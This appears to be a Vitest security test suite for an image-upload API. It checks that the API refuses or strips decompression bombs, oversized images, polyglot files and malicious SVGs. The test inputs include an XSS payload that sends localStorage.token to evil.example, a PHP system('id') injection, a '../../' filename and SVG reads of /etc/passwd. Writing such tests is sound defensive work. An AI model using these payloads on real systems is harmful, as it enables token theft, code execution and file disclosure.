import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { noise, picture } from '../../pictures.ts';
import { call } from '../calls.ts';
import { addAdministrator } from '../records.ts';
import { upload } from '../requests.ts';

let token = '';

beforeAll(async () => {
  ({ token } = await addAdministrator());
});

/** An AVIF that claims a size. */
async function avif(width: number, height: number): Promise<Buffer> {
  const bytes = await picture(64, 64).avif().toBuffer();
  const size = bytes.indexOf('ispe') + 8;
  bytes.writeUInt32BE(width, size);
  bytes.writeUInt32BE(height, size + 4);
  return bytes;
}

/** One chunk of a PNG: length, name, content, checksum. */
function chunk(name: string, content: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, checksum]);
}

/** The last bytes of a PNG's header: bits, color, compression, filter, interlacing. */
const GRAY = [8, 0, 0, 0, 0];
const INTERLACED_RGBA_16 = [16, 6, 0, 0, 1];

/** A PNG that claims a size, with other chunks before its few pixels. */
function png(width: number, height: number, { kind = GRAY, others = [] as Buffer[] } = {}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set(kind, 8);
  const pixels = Buffer.alloc(Math.min(height, 100) * (Math.min(width, 100) + 1));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    ...others,
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('an oversized upload', () => {
  it.each([
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [30_000, 30_000],
    [50_000_001, 1],
    [0, 0],
  ])('of %i × %i pixels is refused when its header is read', async (width, height) => {
    expect([413, 415]).toContain((await upload(token, png(width, height))).status);
  });

  it.each([
    [
      'needs more memory than the process has, a PNG',
      () => png(7000, 7000, { kind: INTERLACED_RGBA_16 }),
      'The image needs too much memory. Please save it at a smaller size or as a plain JPEG.',
    ],
    [
      'needs more memory than the process has, an AVIF',
      () => avif(4000, 4000),
      'The image needs too much memory. Please save it at a smaller size or as a plain JPEG.',
    ],
    [
      'has more than 50 megapixels',
      () => png(8000, 6251),
      'The image has more than 50 megapixels.',
    ],
    [
      'is more than 65,535 pixels wide',
      () => png(65_536, 1),
      'The image is more than 65,535 pixels wide or high.',
    ],
  ])('that %s is refused when its header is read', async (_, make, message) => {
    const { status, body } = await upload(token, await make());
    expect([status, body]).toEqual([413, { message, code: 'body_too_large' }]);
  });

  it('with 200 MB compressed in a comment does not use that much memory', async () => {
    const folded = Buffer.concat([
      Buffer.from('Comment\0\0', 'latin1'),
      deflateSync(Buffer.alloc(200_000_000), { level: 1 }),
    ]);
    const before = process.memoryUsage().rss;
    const { status } = await upload(token, png(16, 16, { others: [chunk('zTXt', folded)] }));
    expect([201, 415]).toContain(status);
    expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000);
  });

  it('in a compressed body is not unpacked', async () => {
    const packed = gzipSync(JSON.stringify({ email: 'a@example.com', password: 'x' }));
    const answer = await call('POST', '/login', {
      body: packed.toString('latin1'),
      headers: { 'content-encoding': 'gzip' },
    });
    expect(answer).toMatchObject({ status: 400, body: { code: 'malformed_body' } });
  });

  it('of thousands of form fields is limited to the size of a file', async () => {
    const form = new FormData();
    for (let part = 0; part < 60_000; part += 1) form.append(`part-${part}`, 'x');
    expect((await call('POST', '/files/upload', { token, form })).status).toBe(413);
  });
});

describe('an upload in two formats', () => {
  const SCRIPT = '<script>fetch("https://evil.example/"+localStorage.token)</script>';

  it.each(['jpeg', 'png', 'webp'] as const)(
    'of a %s with a script inside and after it is stored without the script',
    async (format) => {
      const exif = { IFD0: { ImageDescription: SCRIPT, Artist: '<?php system("id") ?>' } };
      const bytes = await picture(64, 64).withExifMerge(exif).toFormat(format).toBuffer();
      const polyglot = Buffer.concat([bytes, Buffer.from(SCRIPT)]);
      const answer = await upload(token, polyglot, { name: '../../x.html', type: 'text/html' });
      expect(answer.status).toBe(201);
      const { imageId } = answer.body as { imageId: string };
      const shown = await call('GET', `/files/display/${imageId}`);
      expect(shown.headers.get('content-type')).toBe('image/webp');
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
      expect((shown.body as Buffer).toString('latin1')).not.toMatch(/<script|<\?php|evil\.example/);
    },
  );

  it.each([
    ['SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
    ['SVG that reads a file', '<svg><image href="file:///etc/passwd"/></svg>'],
    ['HTML that begins as a GIF', `GIF89a/*${SCRIPT}*/`],
    ['PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'],
    ['text that names a file', '@/etc/passwd'],
    ['an empty file', ''],
  ])('%s is refused', async (_, text) => {
    const { status, body } = await upload(token, Buffer.from(text), { name: 'x.png' });
    const message = 'The file is not a JPEG, PNG, WebP or AVIF image.';
    expect([status, body]).toEqual([415, { message, code: 'unsupported_media_type' }]);
  });

  it.each(['jpeg', 'png', 'webp', 'avif'] as const)(
    'a %s that breaks off anywhere is called damaged',
    async (format) => {
      const whole = await noise(320, 240).toFormat(format).toBuffer();
      for (const length of [40, 300, whole.length >> 1, whole.length - 200]) {
        const { status, body } = await upload(token, whole.subarray(0, length), { name: 'x' });
        const message = 'The file is damaged or incomplete. Please save or send it again.';
        expect([length, status, body]).toEqual([
          length,
          415,
          { message, code: 'unsupported_media_type' },
        ]);
      }
    },
  );
});
